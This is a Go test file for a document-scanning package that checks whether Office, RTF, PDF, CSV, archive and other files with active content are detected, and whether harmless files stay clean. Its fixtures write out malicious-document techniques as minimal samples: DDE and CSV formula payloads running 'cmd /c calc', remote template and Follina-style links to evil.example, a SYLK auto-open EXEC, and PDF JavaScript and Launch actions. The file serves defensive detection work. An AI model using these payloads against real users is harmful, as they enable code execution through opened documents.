package inspect

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"madoguchi/internal/inspect/cfb/cfbtest"
)

// pack makes a zip of "name=content" pairs.
func pack(files ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range files {
		name, content, _ := strings.Cut(f, "=")
		fw, err := w.Create(name)
		if err == nil {
			_, err = fw.Write([]byte(content))
		}
		if err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

const (
	wordMain = `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	docmMain = `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`
	xlsxMain = `<?xml version="1.0"?><Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`
	xlsbMain = `<?xml version="1.0"?><Types><Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>`
)

func vbaProject() []byte {
	return cfbtest.Build(map[string][]byte{"VBA/dir": []byte("x"), "VBA/_VBA_PROJECT": []byte("x"), "PROJECT": []byte("x")})
}

func rel(kind, target, mode string) string {
	return fmt.Sprintf(`<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>`, kind, target, mode)
}

func docx(files ...string) []byte {
	return pack(append([]string{"[Content_Types].xml=" + wordMain, "word/document.xml=<w:document><w:t>text</w:t></w:document>"}, files...)...)
}

func docxBody(body string) []byte {
	return pack("[Content_Types].xml="+wordMain, "word/document.xml=<w:document><w:body>"+body+"</w:body></w:document>")
}

func native(name string, content []byte) []byte {
	b := append([]byte{2, 0}, name+"\x00C:\\"+name+"\x00\x00\x00\x03\x00"...)
	b = binary.LittleEndian.AppendUint32(b, 4)
	b = append(b, "C:\\\x00"...)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(content)))
	b = append(b, content...)
	return append(binary.LittleEndian.AppendUint32(nil, uint32(len(b))), b...)
}

func biff(records ...[]byte) []byte {
	b := record(0x809, []byte{0, 6, 5, 0, 0, 0, 0, 0})
	for _, r := range records {
		b = append(b, r...)
	}
	return append(b, record(0x0a, nil)...)
}

func record(id uint16, body []byte) []byte {
	b := binary.LittleEndian.AppendUint16(nil, id)
	b = binary.LittleEndian.AppendUint16(b, uint16(len(body)))
	return append(b, body...)
}

func xls(records ...[]byte) []byte {
	return cfbtest.Build(map[string][]byte{"Workbook": biff(records...)})
}

func deflate(s string) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	if _, err := w.Write([]byte(s)); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func pdfWith(objects string) []byte {
	return []byte("%PDF-1.7\n" + objects + "\ntrailer<</Root 1 0 R>>\n%%EOF")
}

func objStm(content string) string {
	z := deflate(content)
	return fmt.Sprintf("5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\r\n%s\r\nendstream endobj", len(z), z)
}

func gz(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	if _, err := w.Write(b); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

func tarOf(name string, content []byte) []byte {
	var out bytes.Buffer
	w := tar.NewWriter(&out)
	if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(content))}); err != nil {
		panic(err)
	}
	if _, err := w.Write(content); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// iso makes a disk image with one file.
func iso(name string, content []byte) []byte {
	b := make([]byte, 0x8000+2048*4)
	copy(b[0x8000:], "\x01CD001\x01")
	binary.LittleEndian.PutUint32(b[0x8000+158:], 18)
	binary.LittleEndian.PutUint32(b[0x8000+166:], 2048)
	dir := b[18*2048:]
	dir[0], dir[32] = byte(34+len(name)), byte(len(name))
	binary.LittleEndian.PutUint32(dir[2:], 19)
	binary.LittleEndian.PutUint32(dir[10:], uint32(len(content)))
	copy(dir[33:], name)
	copy(b[19*2048:], content)
	return b
}

var exe = []byte("MZ\x90\x00\x03\x00\x00\x00" + strings.Repeat("\x00\x01", 60))

func utf16le(s string) string {
	b := []byte{}
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8))
	}
	return string(b)
}

func rtfObject(content []byte) string {
	header := "\x01\x05\x00\x00\x02\x00\x00\x00\x08\x00\x00\x00Package\x00" + strings.Repeat("\x00", 8)
	data := append(binary.LittleEndian.AppendUint32([]byte(header), uint32(len(content))), content...)
	return `{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata ` + hex.EncodeToString(data) + `}}}`
}

func TestActiveContentIsFound(t *testing.T) {
	vba := string(vbaProject())
	for _, c := range []struct {
		name     string
		data     []byte
		wantType string
		want     []Kind
	}{
		{"a.docm", pack("[Content_Types].xml="+docmMain, "word/document.xml=<a/>", "word/vbaProject.bin="+vba), "docm", []Kind{VBA}},
		{"renamed.docx", docx("word/notes.bin=" + vba), "docx", []Kind{VBA}},
		{"flagged.docx", docx("word/_rels/document.xml.rels=" + rel("vbaProject", "x.bin", "")), "docx", []Kind{VBA}},
		{"a.xlsm", pack("[Content_Types].xml="+xlsxMain, "xl/workbook.xml=<a/>", "xl/macrosheets/sheet1.xml=<xm:macrosheet/>"), "xlsx", []Kind{XLM}},
		{"template.docx", docx("word/_rels/settings.xml.rels=" + rel("attachedTemplate", "http://evil.example/t.dotm", "External")), "docx", []Kind{External}},
		{"frame.docx", docx("word/_rels/webSettings.xml.rels=" + rel("frame", "\\\\evil.example\\x", "External")), "docx", []Kind{External}},
		{"follina.docx", docx("word/_rels/document.xml.rels=" + rel("oleObject", "https://evil.example/x.html!", "External")), "docx", []Kind{External, OLE}},
		{"picture.docx", docx("word/_rels/document.xml.rels=" + rel("image", "http://evil.example/x.png", "External")), "docx", []Kind{External}},
		{"utf16.docx", docx("word/_rels/settings.xml.rels=\xff\xfe" + utf16le(rel("attachedTemplate", "http://evil.example/t.dotm", "External"))), "docx", []Kind{External}},
		{"dde.docx", docxBody(`<w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;"/>`), "docx", []Kind{DDE}},
		{"dde split.docx", docxBody(`<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO cmd</w:instrText>`), "docx", []Kind{DDE}},
		{"dde entity.docx", docxBody(`<w:instrText>&#68;DE cmd</w:instrText>`), "docx", []Kind{DDE}},
		{"dde numbers.docx", docxBody(`<w:instrText>QUOTE 68 68 69 65 85 84 79 32 99</w:instrText>`), "docx", []Kind{DDE}},
		{"dde.xlsx", pack("[Content_Types].xml="+xlsxMain, `xl/externalLinks/externalLink1.xml=<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), "xlsx", []Kind{DDE}},
		{"dde.xlsb", pack("[Content_Types].xml="+xlsbMain, "xl/workbook.bin=x", "xl/externalLinks/externalLink1.bin=\xe8\x02\x02\x01\x00"), "xlsb", []Kind{DDE}},
		{"activex.docx", docx("word/activeX/activeX1.xml=<ax:ocx/>"), "docx", []Kind{ActiveX}},
		{"connection.xlsx", pack("[Content_Types].xml="+xlsxMain, "xl/connections.xml=<connections/>"), "xlsx", []Kind{External}},
		{"object.docx", docx("word/embeddings/oleObject1.bin=" + string(cfbtest.Build(map[string][]byte{"\x01Ole10Native": native("a.exe", exe)}))), "docx", []Kind{Executable, OLE}},
		{"workbook in document.docx", docx("word/embeddings/Book1.xlsm=" + string(pack("[Content_Types].xml="+xlsxMain, "xl/vbaProject.bin="+vba))), "docx", []Kind{Embedded, VBA}},
		{"altchunk.docx", docx("word/afchunk.rtf=" + rtfObject(native("a.lnk", []byte("L\x00\x00\x00\x01\x14\x02\x00"))[4:])), "docx", []Kind{Shortcut, OLE}},
		{"a.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte("x"), "Macros/VBA/dir": []byte("x")}), "doc", []Kind{VBA}},
		{"dde.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte(strings.Repeat("\x00", 600) + "\x13 DDEAUTO cmd \x14x\x15")}), "doc", []Kind{DDE}},
		{"dde wide.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte(strings.Repeat("\x00", 600) + utf16le("\x13 DDEAUTO cmd \x14x\x15"))}), "doc", []Kind{DDE}},
		{"object.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte("x"), "ObjectPool/_123/\x01Ole10Native": native("a.exe", exe)}), "doc", []Kind{Executable, OLE}},
		{"program.pptx", pack(`[Content_Types].xml=<Types><Override ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>`, `ppt/slides/slide1.xml=<a:hlinkClick action="ppaction://program" r:id="r2"/>`), "pptx", []Kind{Launch}},
		{"share template.docx", docx("word/_rels/settings.xml.rels=" + rel("attachedTemplate", "file://\\\\evil.example\\t.dotm", "External")), "docx", []Kind{External}},
		{"a.msg", cfbtest.Build(map[string][]byte{"__properties_version1.0": []byte("x"), "__attach_version1.0_#00000000/__substg1.0_37010102": []byte(strings.Repeat("del x\r\n", 600)), "__attach_version1.0_#00000000/__substg1.0_3707001F": []byte(utf16le("a.bat"))}), "msg", []Kind{Script}},
		{"page.mht", []byte("MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<html>x</html>\n--b\nContent-Type: application/x-mso\nContent-Location: editdata.mso\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString(append(append([]byte("ActiveMime"), make([]byte, 40)...), deflate(vba)...)) + "\n--b--"), "eml", []Kind{VBA}},
		{"control.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte("x"), "ObjectPool/_1/\x03OCXNAME": []byte("x")}), "doc", []Kind{ActiveX, OLE}},
		{"xlm.xls", xls(record(0x85, append([]byte{0, 0, 0, 0, 2, 1}, "Macro1"...))), "xls", []Kind{XLM}},
		{"vba.xls", cfbtest.Build(map[string][]byte{"Workbook": biff(), "_VBA_PROJECT_CUR/VBA/dir": []byte("x")}), "xls", []Kind{VBA}},
		{"dde.xls", xls(record(0x1ae, append([]byte{0, 0, 12, 0, 0}, "cmd\x03/c calc"...))), "xls", []Kind{DDE}},
		{"excel4.xls", append([]byte{0x09, 0x04, 0x06, 0, 0, 0, 0x40, 0, 0, 0}, record(0x0a, nil)...), "xls", []Kind{XLM}},
		{"a.ppt", cfbtest.Build(map[string][]byte{"PowerPoint Document": append(append([]byte{0x10, 0, 0x11, 0x10}, binary.LittleEndian.AppendUint32(nil, uint32(4+len(deflate(vba))))...), append([]byte{0, 0, 0, 0}, deflate(vba)...)...)}), "ppt", []Kind{VBA}},
		{"object.rtf", []byte(rtfObject(cfbtest.Build(map[string][]byte{"\x01Ole10Native": native("a.exe", exe)}))), "rtf", []Kind{Executable, OLE}},
		{"junk.rtf", []byte(`{\rt0{\object\objemb{\*\objdata 01{\*\x}05 0 00 0{\y zz}` + "\n" + `02}}}`), "rtf", []Kind{OLE}},
		{"field.rtf", []byte(`{\rtf1{\field{\*\fldinst DDEAUTO cmd "/c calc"}{\fldrslt x}}}`), "rtf", []Kind{DDE}},
		{"template.rtf", []byte(`{\rtf1{\*\template http://evil.example/x.dotm}}`), "rtf", []Kind{External}},
		{"a.slk", []byte("ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC(\"calc.exe\")\nE\n"), "slk", []Kind{SYLK, XLM}},
		{"slk as.csv", []byte("ID;PWXL\nC;X1;Y1;K1\nE\n"), "slk", []Kind{SYLK}},
		{"a.csv", []byte("name,value\nx,=cmd|'/c calc'!A0\n"), "csv", []Kind{DDE, Formula}},
		{"plus.csv", []byte("name,value\nx,\"+cmd|'/c calc'!A0\"\n"), "csv", []Kind{DDE, Formula}},
		{"hyper.csv", []byte("name,value\nx,\"=HYPERLINK(\"\"http://evil.example\"\")\"\n"), "csv", []Kind{Formula}},
		{"at.csv", []byte("a,b\n@SUM(1+1)*cmd|'/c calc'!A0,1\n"), "csv", []Kind{DDE, Formula}},
		{"a.odt", pack("mimetype=application/vnd.oasis.opendocument.text", "content.xml=<a/>", "Basic/Standard/Module1.xml=<script:module/>"), "odt", []Kind{Basic}},
		{"event.ods", pack("mimetype=application/vnd.oasis.opendocument.spreadsheet", `content.xml=<script:event-listener xlink:href="vnd.sun.star.script:Standard.M.x?language=Basic"/>`), "ods", []Kind{Basic}},
		{"python.odt", pack("mimetype=application/vnd.oasis.opendocument.text", "Scripts/python/x.py=print(1)"), "odt", []Kind{Script}},
		{"dde.ods", pack("mimetype=application/vnd.oasis.opendocument.spreadsheet", `content.xml=<c table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"/>`), "ods", []Kind{DDE}},
		{"load.odt", pack("mimetype=application/vnd.oasis.opendocument.text", `content.xml=<draw:image xlink:href="http://evil.example/x"/>`), "odt", []Kind{External}},
		{"a.pdf", pdfWith("1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"), "pdf", []Kind{JavaScript}},
		{"escaped.pdf", pdfWith("1 0 obj<</OpenAction<</S/Java#53cript/J#53(x)>>>>endobj"), "pdf", []Kind{JavaScript}},
		{"packed.pdf", pdfWith(objStm("1 0 <</S/Launch/F(cmd.exe)>>")), "pdf", []Kind{Launch}},
		{"file.pdf", pdfWith(fmt.Sprintf("3 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\n%s\nendstream", deflate(string(exe)))), "pdf", []Kind{Embedded, Executable}},
		{"a.lnk", append([]byte("L\x00\x00\x00\x01\x14\x02\x00"), make([]byte, 100)...), "lnk", []Kind{Shortcut}},
		{"a.iso", iso("A.EXE", exe), "iso", []Kind{Executable, DiskImage}},
		{"a.html", []byte("<html><script>location='http://evil.example'</script></html>"), "html", []Kind{HTML, JavaScript}},
		{"page as.doc", []byte("<!DOCTYPE html><html><p>x</p></html>"), "html", []Kind{HTML}},
		{"a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "svg", []Kind{JavaScript}},
		{"a.hta", []byte("<html><hta:application><script language=vbscript>x</script></html>"), "hta", []Kind{HTML, JavaScript, Script}},
		{"a.js", []byte("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"), "js", []Kind{Script}},
		{"noname", []byte("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"), "script", []Kind{Script}},
		{"a.ps1", []byte("Get-Process"), "ps1", []Kind{Script}},
		{"a.bat", []byte("del x"), "bat", []Kind{Script}},
		{"a.url", []byte("[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n"), "url", []Kind{Shortcut}},
		{"a.exe", exe, "exe", []Kind{Executable}},
		{"a.elf", []byte("\x7fELF\x02\x01\x01"), "elf", []Kind{Executable}},
		{"a.jar", pack("META-INF/MANIFEST.MF=x", "A.class=\xca\xfe\xba\xbe"), "jar", []Kind{Executable}},
		{"a.zip", pack("請求書.docm=" + string(pack("[Content_Types].xml="+docmMain, "word/vbaProject.bin="+vba))), "zip", []Kind{VBA}},
		{"a.zip in.zip", pack("b.zip=" + string(pack("c.exe="+string(exe)))), "zip", []Kind{Executable}},
		{"a.tar.gz", gz(tarOf("a.exe", exe)), "gz", []Kind{Executable}},
		{"a.eml", []byte("From: a@b.example\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: application/x; name=a.exe\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString(exe) + "\n--b--"), "eml", []Kind{Executable}},
		{"a.mso", append(append([]byte("ActiveMime"), make([]byte, 40)...), deflate(vba)...), "mso", []Kind{VBA}},
		{"word2003.xml", []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument><w:binData w:name="editdata.mso">` + base64.StdEncoding.EncodeToString(append(append([]byte("ActiveMime"), make([]byte, 40)...), deflate(vba)...)) + `</w:binData></w:wordDocument>`), "officexml", []Kind{VBA}},
		{"a.one", append([]byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"), append(append(append([]byte{}, fileDataStore...), append(binary.LittleEndian.AppendUint64(nil, uint64(len(exe))), make([]byte, 12)...)...), exe...)...), "one", []Kind{Embedded, Executable}},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Look(c.name, c.data, nil)
			if got.Type != c.wantType {
				t.Errorf("type: got %s, want %s", got.Type, c.wantType)
			}
			if diff := cmp.Diff(sorted(c.want), got.Active); diff != "" {
				t.Errorf("active (-want +got):\n%s", diff)
			}
			for _, k := range got.Active {
				if kindReasons[k] == "" {
					t.Errorf("%s has no reason", k)
				}
			}
		})
	}
}

func sorted(kinds []Kind) []Kind {
	out := append([]Kind{}, kinds...)
	for i := range out {
		for j := i + 1; j < len(out); j++ {
			if out[j] < out[i] {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

func TestHarmlessFilesAreClean(t *testing.T) {
	for _, c := range []struct {
		name     string
		data     []byte
		wantType string
	}{
		{"a.docx", docx("word/_rels/document.xml.rels=" + rel("hyperlink", "https://city.example.jp/", "External")), "docx"},
		{"own template.docx", docx("word/_rels/settings.xml.rels=" + rel("attachedTemplate", "file:///C:\\Users\\yamada\\Normal.dotm", "External")), "docx"},
		{"linked.xlsx", pack("[Content_Types].xml="+xlsxMain, "xl/externalLinks/externalLink1.xml=<externalLink><externalBook r:id=\"r1\"/></externalLink>", "xl/externalLinks/_rels/externalLink1.xml.rels="+rel("externalLinkPath", "file:///C:\\work\\a.xlsx", "External")), "xlsx"},
		{"b.docx", docxBody(`<w:instrText>PAGEREF _Toc1</w:instrText><w:t>DDE について</w:t>`), "docx"},
		{"a.xlsx", pack("[Content_Types].xml="+xlsxMain, "xl/workbook.xml=<workbook/>", "xl/worksheets/sheet1.xml=<f>SUM(A1:A2)</f>"), "xlsx"},
		{"a.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte("\x13 PAGE \x14"), "1Table": []byte("x")}), "doc"},
		{"a.xls", xls(record(0x85, append([]byte{0, 0, 0, 0, 0, 0}, "Sheet1"...)), record(0x1ae, []byte{1, 0, 1, 4})), "xls"},
		{"a.pdf", pdfWith("1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]/URI(https://city.example.jp)>>endobj"), "pdf"},
		{"a.rtf", []byte(`{\rtf1\ansi{\fonttbl{\f0 MS Mincho;}}\'82\'a0 text}`), "rtf"},
		{"a.odt", pack("mimetype=application/vnd.oasis.opendocument.text", "content.xml=<a/>", "Basic/Standard/script-lb.xml=<library:library/>"), "odt"},
		{"a.csv", []byte("氏名,電話,差額\n山田,+81-3-1234-5678,-100\n\"佐藤, 花子\",090-0000-0000,-1.5\n"), "csv"},
		{"phone.csv", []byte("a,b\n+81 90 1234 5678,-\n(03)1234,+5\n"), "csv"},
		{"a.txt", []byte("お問い合わせの件\n=== 区切り ===\n- 箇条書き\n@ここ\n"), "txt"},
		{"readme.txt", []byte("powershell -Command を使う説明"), "txt"},
		{"a.png", []byte("\x89PNG\r\n\x1a\n\x00"), "png"},
		{"a.jpg", []byte("\xff\xd8\xff\xe0\x00"), "jpg"},
		{"a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`), "svg"},
		{"a.zip", pack("申請書.txt=本文", "b/写真.png=\x89PNG\r\n\x1a\n"), "zip"},
		{"empty", nil, "txt"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Look(c.name, c.data, nil)
			if got.Type != c.wantType || len(got.Active) > 0 || len(got.Reasons) > 0 || got.Encrypted || got.Opaque {
				t.Errorf("got %+v, want a clean %s", got, c.wantType)
			}
		})
	}
}

func hasReason(r Report, key string) bool {
	for _, have := range r.Reasons {
		if have.Key == key {
			return true
		}
	}
	return false
}

func TestNamesThatLieAreSeen(t *testing.T) {
	for _, c := range []struct {
		name, key string
		data      []byte
	}{
		{"請求書.pdf.exe", "inspect.double_extension", exe},
		{"請求書.pdf", "inspect.disguised", exe},
		{"a\u202efdp.exe", "inspect.bidi_name", exe},
		{"a.docx", "inspect.disguised", []byte("{\\rtf1 x}")},
		{"a.xls", "inspect.disguised", pdfWith("")},
	} {
		if got := Look(c.name, c.data, nil); !hasReason(got, c.key) {
			t.Errorf("%q: got %+v, want %s", c.name, got.Reasons, c.key)
		}
	}
}

func TestBombsAreBounded(t *testing.T) {
	zeros := strings.Repeat("\x00", 1<<20)
	inner := pack("a="+zeros, "b="+zeros)
	l := &looker{budget: 3 << 20, members: 100, inspectors: inspectorTable()}
	got := l.look("bomb.zip", pack("1.zip="+string(inner), "2.zip="+string(inner)), 0)
	if !got.Huge || !got.Opaque || !hasReason(got, "inspect.bomb") || l.budget < 0 {
		t.Errorf("got huge %v, opaque %v, %v, %d bytes left", got.Huge, got.Opaque, got.Reasons, l.budget)
	}
	many := &looker{budget: 1 << 20, members: 2, inspectors: inspectorTable()}
	if got := many.look("many.zip", pack("1=x", "2=x", "3=x"), 0); !hasReason(got, "inspect.too_deep") {
		t.Errorf("too many: got %v", got.Reasons)
	}
	if got := Look("huge.zip", declareSize(pack("a.doc=x"), 600<<20), nil); !got.Huge || !hasReason(got, "inspect.huge") {
		t.Errorf("a document of 600 MB: got huge %v, %v", got.Huge, got.Reasons)
	}
	deep := pack("x.exe=" + string(exe))
	for range 20 {
		deep = pack("x.zip=" + string(deep))
	}
	if got := Look("deep.zip", deep, nil); !hasReason(got, "inspect.too_deep") || !hasReason(got, "inspect.nested_archive") {
		t.Errorf("got %v", got.Reasons)
	}
}

// declareSize writes a size into the central directory of an archive of one file.
func declareSize(archive []byte, size uint32) []byte {
	at := bytes.Index(archive, []byte("PK\x01\x02"))
	binary.LittleEndian.PutUint32(archive[at+24:], size)
	return archive
}

func TestPasswordsAreTried(t *testing.T) {
	for _, c := range []struct {
		file      string
		passwords []string
		locked    bool
	}{
		{"docm-zipcrypto.zip", nil, true},
		{"docm-zipcrypto.zip", []string{"wrong", "1234"}, false},
		{"docm-aes.zip", []string{"パスワード", "1234"}, false},
		{"docm-aes.zip", []string{"12345"}, true},
		{"agile.docm", nil, true}, // the encrypted documents were made by officecrypto-tool
		{"agile.docm", []string{"123", "1234"}, false},
		{"standard.docm", nil, true},
		{"standard.docm", []string{"1234"}, false},
		{"velvet.docm", nil, false}, // Excel's own password, which needs no asking
	} {
		data, err := os.ReadFile("testdata/" + c.file)
		if err != nil {
			t.Fatal(err)
		}
		got := Look(c.file, data, c.passwords)
		if !got.Encrypted || got.Locked != c.locked || got.Opened == c.locked || got.Has(VBA) == c.locked {
			t.Errorf("%s with %v: got encrypted %v, locked %v, opened %v, active %v", c.file, c.passwords, got.Encrypted, got.Locked, got.Opened, got.Active)
		}
	}
}

func FuzzLook(f *testing.F) {
	f.Add("a.zip", pack("a.docm="+string(docx("word/vbaProject.bin="+string(vbaProject())))))
	f.Add("a.rtf", []byte(rtfObject(native("a.exe", exe))))
	f.Add("a.doc", cfbtest.Build(map[string][]byte{"WordDocument": []byte("\x13 DDE x\x15"), "\x01Ole10Native": native("a", exe)}))
	f.Add("a.pdf", pdfWith(objStm("1 0 <</S/JavaScript>>")))
	f.Add("a.xls", xls(record(0x1ae, []byte{0, 0, 3, 0, 0, 'a', 3, 'b'})))
	f.Add("a.iso", iso("A.TXT", []byte("x")))
	f.Add("a.csv", []byte("a,=b|c!d"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		r := Look(name, data, []string{"1234"})
		if r.Type == "" {
			t.Error("no type")
		}
	})
}
